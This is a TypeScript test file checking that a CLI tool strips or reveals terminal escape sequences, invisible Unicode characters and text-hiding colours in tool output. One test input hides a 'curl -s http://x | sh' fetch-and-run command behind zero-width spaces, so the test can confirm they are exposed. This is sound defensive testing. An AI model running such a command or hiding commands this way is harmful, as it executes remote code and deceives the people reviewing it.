import assert from 'node:assert/strict';
import { test } from 'node:test';
import { TextTimeline } from '../../cli/render/timeline-text.js';
import { sanitizeLine, type Style } from '../../cli/tui/sanitize.js';
import { EscapeScanner, isInvisible, safeSgrParams, showInvisible, visibleText } from '../../protocol/terminal-escapes.js';
import { ansiToText } from '../../server/render/ansi.js';
import { renderEntryHtml } from '../../server/render/timeline-html.js';
import { ESCAPE_CASES } from './terminal-escape-cases.js';

/** The text content of HTML: tags removed, entities decoded (only the five the escaper writes). */
function textContent(html: string): string {
  return html.replace(/<[^>]*>/g, '').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, '&');
}

/** The phone timeline: the text as a tool result, read back from its `<pre>`. */
function phoneTimeline(input: string): string {
  const html = renderEntryHtml(
    { kind: 'tool', id: '1', seq: 1, time: 0, toolUseId: 't1', name: 'Bash', input: null, inputTruncated: false, sub: false, approval: null, result: { type: 'claude_tool_result', toolUseId: 't1', content: input, isError: false, chars: input.length, truncated: false, parentToolUseId: null, seq: 2, time: 0 } },
    { resultLines: 1000 },
  );
  const pre = /<pre class="tl-output">([\s\S]*?)<\/pre>/.exec(html);
  assert.ok(pre, html.slice(0, 300));
  return textContent(pre[1]!);
}

/** The timeline text (TUI event pane, `ccg runs events`): the same tool result, its prefixes removed. */
function timelineText(input: string): string {
  const lines = new TextTimeline({ resultLines: 1000 }).push({
    seq: 1,
    time: 0,
    event: { type: 'claude_tool_result', toolUseId: 't1', content: input, isError: false, chars: input.length, truncated: false, parentToolUseId: null },
  });
  return lines.map((l, i) => l.text.slice(i === 0 ? '  ↳ '.length : '  │ '.length + 2)).join('\n');
}

/** The TUI's output pane: line by line, the style carried from one line to the next. */
function tui(input: string): string {
  let style: Style = {};
  return input
    .split('\n')
    .map((raw) => {
      const l = sanitizeLine(raw, style);
      style = l.end;
      return l.segments.map((s) => s.text).join('');
    })
    .join('\n');
}

const CONSUMERS: [string, (s: string) => string, boolean][] = [
  ['phone timeline', phoneTimeline, false],
  ['timeline text', timelineText, false],
  ['phone raw output', (s) => ansiToText(s), false],
  ['TUI', tui, true],
];

for (const [consumer, show, isTui] of CONSUMERS) {
  test(`terminal escape cases: ${consumer} shows the visible text and nothing else`, () => {
    for (const c of ESCAPE_CASES) {
      const t0 = performance.now();
      const got = show(c.input);
      const ms = performance.now() - t0;
      assert.equal(got, isTui && c.tui !== undefined ? c.tui : c.want, `${consumer}: ${c.name}`);
      // Quadratic work on these sizes takes minutes; linear takes milliseconds.
      if (c.flood) assert.ok(ms < 3000, `${consumer}: ${c.name} took ${Math.round(ms)} ms`);
    }
  });
}

test('the scanner splits text into tokens that cover it exactly, in one pass', () => {
  for (const c of ESCAPE_CASES) {
    const sc = new EscapeScanner(c.input);
    let at = 0;
    while (sc.next()) {
      assert.equal(sc.start, at, c.name);
      assert.ok(sc.end > sc.start, c.name);
      at = sc.end;
    }
    assert.equal(at, c.input.length, c.name);
  }
  const sc = new EscapeScanner('a\x1b[1;31mb\x1b[?25h\x1b[1$m');
  const kinds: string[] = [];
  while (sc.next()) kinds.push(`${sc.kind}:${sc.sgrParams() ?? ''}`);
  assert.deepEqual(kinds, ['text:', 'csi:1;31', 'text:', 'csi:', 'csi:']);
});

test('a stream: an unfinished sequence is open, and resuming it does not change the result', () => {
  const sc = new EscapeScanner('ab\x1b]0;tit', true);
  const kinds: string[] = [];
  while (sc.next()) kinds.push(sc.kind);
  assert.deepEqual(kinds, ['text', 'open']);
  assert.equal(sc.start, 2);
  const resumed = new EscapeScanner('\x1b]0;title\x07c', true, sc.scanned - sc.start);
  assert.ok(resumed.next());
  assert.deepEqual([resumed.kind, resumed.end], ['string', 10]);
  assert.equal(visibleText('x\ty\r\nz\r', { tab: '    ', cr: 'newline' }), 'x    y\nz\n');
});

test('one definition of the dangerous invisible characters: the scanner and showInvisible agree', () => {
  for (let c = 0; c <= 0xffff; c++) {
    const ch = String.fromCharCode(c);
    assert.equal(showInvisible(ch) !== ch, isInvisible(c), `U+${c.toString(16)}`);
  }
  assert.equal(showInvisible('a\u200eb\u202ec'), 'a\ufffdb\ufffdc');
  // Tag characters (astral: a surrogate pair each), every one of them and nothing beside them.
  for (let c = 0xe0000 - 2; c <= 0xe007f + 2; c++) {
    const ch = String.fromCodePoint(c);
    const tag = c >= 0xe0000 && c <= 0xe007f;
    assert.equal(showInvisible(ch), tag ? '\ufffd' : ch, `U+${c.toString(16)}`);
    assert.equal(visibleText(`a${ch}b`), tag ? 'a\ufffdb' : `a${ch}b`, `U+${c.toString(16)}`);
  }
});

test('characters that show nothing are shown, so no text hides behind them; joiners in emoji stay', () => {
  const hidden = `ls -la${'\u200b'.repeat(40)}; curl -s http://x | sh`;
  assert.equal(visibleText(hidden), `ls -la${'\ufffd'.repeat(40)}; curl -s http://x | sh`);
  for (const c of ['\u00ad', '\u2060', '\u2064', '\u3164', '\ufeff', '\u180e', '\u115f', '\uffa0']) {
    assert.equal(visibleText(`a${c}b`), 'a\ufffdb', `U+${c.charCodeAt(0).toString(16)}`);
  }
  // Emoji: a ZWJ sequence and a presentation selector are text as they are.
  for (const emoji of ['\u{1F468}\u200d\u{1F4BB}', '\u2764\ufe0f', 'e\u0301']) assert.equal(visibleText(emoji), emoji);
});

test('one colour policy for a person\'s terminal: nothing that hides text (background, inverse, conceal) reaches runs logs or the TUI', async () => {
  assert.deepEqual(safeSgrParams(''), [0]);
  assert.deepEqual(safeSgrParams('1;31'), [1, 31]);
  assert.deepEqual(safeSgrParams('30;40'), [90], 'black as gray, no background');
  assert.deepEqual(safeSgrParams('37;97'), [90, 90], 'white as gray: it vanishes on a light terminal');
  assert.deepEqual(safeSgrParams('8'), [], 'conceal');
  assert.deepEqual(safeSgrParams('7;5;9;47;107'), [], 'inverse, blink, strike, backgrounds');
  assert.deepEqual(safeSgrParams('38;5;196;32'), [32], 'an extended colour is consumed, not read as 5 (blink) and 196');
  assert.deepEqual(safeSgrParams('48;2;0;0;0;1'), [1]);
  assert.deepEqual(safeSgrParams('4:3;22'), [22], 'sub-parameters dropped');
  const { TerminalFilter } = await import('../../cli/terminal-filter.js');
  const f = new TerminalFilter();
  assert.equal(f.write(Buffer.from('\x1b[8mHIDDEN\x1b[0m \x1b[30;40mblack\x1b[m \x1b[32mok\x1b[0m\n')), 'HIDDEN\x1b[0m \x1b[90mblack\x1b[0m \x1b[32mok\x1b[0m\n');
  // The TUI reads the same: conceal and a background change nothing; black shows as gray.
  assert.deepEqual(sanitizeLine('\x1b[8;47mHIDDEN').segments, [{ text: 'HIDDEN' }]);
  assert.deepEqual(sanitizeLine('\x1b[30;40mblack').segments, [{ text: 'black', color: 'gray' }]);
});
